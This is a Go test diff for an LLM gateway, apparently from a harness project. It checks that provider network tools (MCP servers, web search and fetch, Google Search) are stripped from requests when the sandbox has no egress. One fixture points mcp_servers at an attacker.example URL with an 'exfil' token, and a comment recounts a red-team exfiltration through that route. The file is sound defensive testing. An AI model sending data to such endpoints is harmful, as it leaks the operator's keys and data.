@@ -2,7 +2,12 @@ package gateway
 
 import (
 	"encoding/json"
-	"strings"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"slices"
+	"sync"
 	"testing"
 
 	"github.com/harnessd/harnessd/testharness/fakellm"
@@ -54,35 +59,62 @@ func TestPassthroughSendsTheConfiguredModel(t *testing.T) {
 	}
 }
 
-// TestPassthroughRefusesProviderNetworkTools: a sandboxed harness without
+// capturingUpstream is a provider that keeps each request's path and body
+// and answers 200 with a small JSON body.
+func capturingUpstream(t *testing.T) (url string, got func() (paths []string, bodies []string)) {
+	t.Helper()
+	var mu sync.Mutex
+	var paths, bodies []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		paths, bodies = append(paths, r.URL.Path), append(bodies, string(b))
+		mu.Unlock()
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(`{"id":"x","usage":{"input_tokens":1,"output_tokens":1}}`))
+	}))
+	t.Cleanup(srv.Close)
+	return srv.URL, func() ([]string, []string) {
+		mu.Lock()
+		defer mu.Unlock()
+		return slices.Clone(paths), slices.Clone(bodies)
+	}
+}
+
+// TestPassthroughLeavesOutProviderNetworkTools: a sandboxed harness without
 // egress may not have the provider reach the network for it, which the
 // provider's own tools do with the operator's key: Anthropic's
 // mcp_servers (a red team's went to an attacker's URL with data in its
 // token), web search and fetch; a Responses web search or remote MCP
 // tool; Chat Completions' web_search_options; Gemini's Google Search and
-// URL context. Each is refused, naming what, and nothing reaches the
-// provider. The control: with ProviderNetwork (egress host, process
-// isolation) the same requests go through.
-func TestPassthroughRefusesProviderNetworkTools(t *testing.T) {
+// URL context. They are left out of the request, the rest of it goes as
+// sent: agents offer such tools in every request (Codex's web_search
+// with external_web_access false), and refusing the request stopped them
+// (a first version of this refused it, and Codex never got an answer).
+// The control: with ProviderNetwork (egress host, process isolation) the
+// body reaches the provider as it was sent.
+func TestPassthroughLeavesOutProviderNetworkTools(t *testing.T) {
 	msgs := `"messages":[{"role":"user","content":"hi"}]`
 	cases := []struct {
-		dialect    Dialect
-		path, body string
-		named      string
+		dialect          Dialect
+		path, body, want string
 	}{
-		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x","authorization_token":"exfil"}]}`, "mcp_servers"},
-		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "web_fetch_20250910"},
-		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"tools":[{"name":"f","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search"}]}`, "web_search_20250305"},
-		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"mcp_servers":[{"url":"https://a.example"}],"mcp_servers":null}`, "mcp_servers"},
-		{DialectResponses, "/v1/responses", `{"model":"g","input":"hi","tools":[{"type":"mcp","server_url":"https://a.example","server_label":"x"}]}`, "mcp"},
-		{DialectResponses, "/v1/responses", `{"model":"g","input":"hi","tools":[{"type":"web_search_preview"}]}`, "web_search_preview"},
-		{DialectChat, "/v1/chat/completions", `{"model":"g",` + msgs + `,"web_search_options":{}}`, "web_search_options"},
-		{DialectGemini, "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"google_search":{}}]}`, "google_search"},
-		{DialectGemini, "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"urlContext":{}}]}`, "urlContext"},
+		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x","authorization_token":"exfil"}]}`,
+			`{"model":"c","max_tokens":10,` + msgs + `}`},
+		{DialectAnthropic, "/v1/messages", `{"model":"c",` + msgs + `,"tools":[{"name":"f","input_schema":{"type":"object","required":["a"]}},{"type":"web_search_20250305","name":"web_search"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
+			`{"model":"c",` + msgs + `,"tools":[{"name":"f","input_schema":{"type":"object","required":["a"]}}]}`},
+		{DialectAnthropic, "/v1/messages", `{"model":"c",` + msgs + `,"mcp_servers":[{"url":"https://a.example"}],"MCP_SERVERS":[{"url":"https://b.example"}]}`,
+			`{"model":"c",` + msgs + `}`},
+		{DialectResponses, "/v1/responses", `{"model":"g","input":"hi","tools":[{"type":"function","name":"shell"},{"type":"web_search","external_web_access":false},{"type":"mcp","server_url":"https://a.example","server_label":"x"}]}`,
+			`{"model":"g","input":"hi","tools":[{"type":"function","name":"shell"}]}`},
+		{DialectChat, "/v1/chat/completions", `{"model":"g",` + msgs + `,"web_search_options":{}}`, `{"model":"g",` + msgs + `}`},
+		{DialectGemini, "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"google_search":{}},{"functionDeclarations":[{"name":"f"}],"urlContext":{}}]}`,
+			`{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"functionDeclarations":[{"name":"f"}]}]}`},
 	}
 	for _, c := range cases {
 		for _, network := range []bool{false, true} {
-			provider, gw := passthroughTo(t, c.dialect, "", network)
+			url, got := capturingUpstream(t)
+			gw := startGateway(t, "", Options{ProviderNetwork: network, Upstream: Upstream{Kind: UpstreamPassthrough, URL: url, Dialect: c.dialect}})
 			path, headers := c.path, map[string]string(nil)
 			switch c.dialect {
 			case DialectAnthropic:
@@ -93,31 +125,35 @@ func TestPassthroughRefusesProviderNetworkTools(t *testing.T) {
 				headers = gw.bearer()
 			}
 			status, out := gw.post(t, path, headers, json.RawMessage(c.body))
-			reached := len(provider.Requests())
+			_, bodies := got()
+			want := c.want
 			if network {
-				if reached != 1 {
-					t.Errorf("control: %s %s with ProviderNetwork: status %d, %d provider requests: %s", c.dialect, c.named, status, reached, out)
-				}
-				continue
+				want = c.body
 			}
-			if status != 400 || reached != 0 || !strings.Contains(string(out), c.named) {
-				t.Errorf("%s %s: status %d, %d provider requests, answer %s; want 400 naming it and nothing sent", c.dialect, c.named, status, reached, out)
+			if status != 200 || len(bodies) != 1 || !jsonEqual(bodies[0], want) {
+				t.Errorf("%s, ProviderNetwork %v: status %d (%s), the provider got %q, want %s", c.dialect, network, status, out, bodies, want)
 			}
 		}
 	}
 }
 
-// withModel drops every "model" member, keeps the rest as written, and
-// puts the configured one first.
+// jsonEqual says whether a and b are the same JSON value.
+func jsonEqual(a, b string) bool {
+	var x, y any
+	return json.Unmarshal([]byte(a), &x) == nil && json.Unmarshal([]byte(b), &y) == nil && reflect.DeepEqual(x, y)
+}
+
+// withModel drops every "model" member (any letter case), keeps the
+// rest, and puts the configured one first.
 func TestWithModel(t *testing.T) {
 	for in, want := range map[string]string{
-		`{"model":"a","x":1,"model":"b"}`: `{"model":"m","x":1}`,
-		`{ "x" : [1,2] }`:                 `{"model":"m", "x" : [1,2] }`,
+		`{"model":"a","x":1,"Model":"b"}`: `{"model":"m","x":1}`,
+		`{ "x" : [1,2] }`:                 `{"model":"m","x":[1,2]}`,
 		`{"model":"a"}`:                   `{"model":"m"}`,
 		`{}`:                              `{"model":"m"}`,
 	} {
-		got, err := withModel([]byte(in), "m")
-		if err != nil || string(got) != want {
+		ms, err := members([]byte(in))
+		if got := string(object(withModel(ms, "m"))); err != nil || got != want {
 			t.Errorf("withModel(%s) = %s, %v; want %s", in, got, err, want)
 		}
 	}
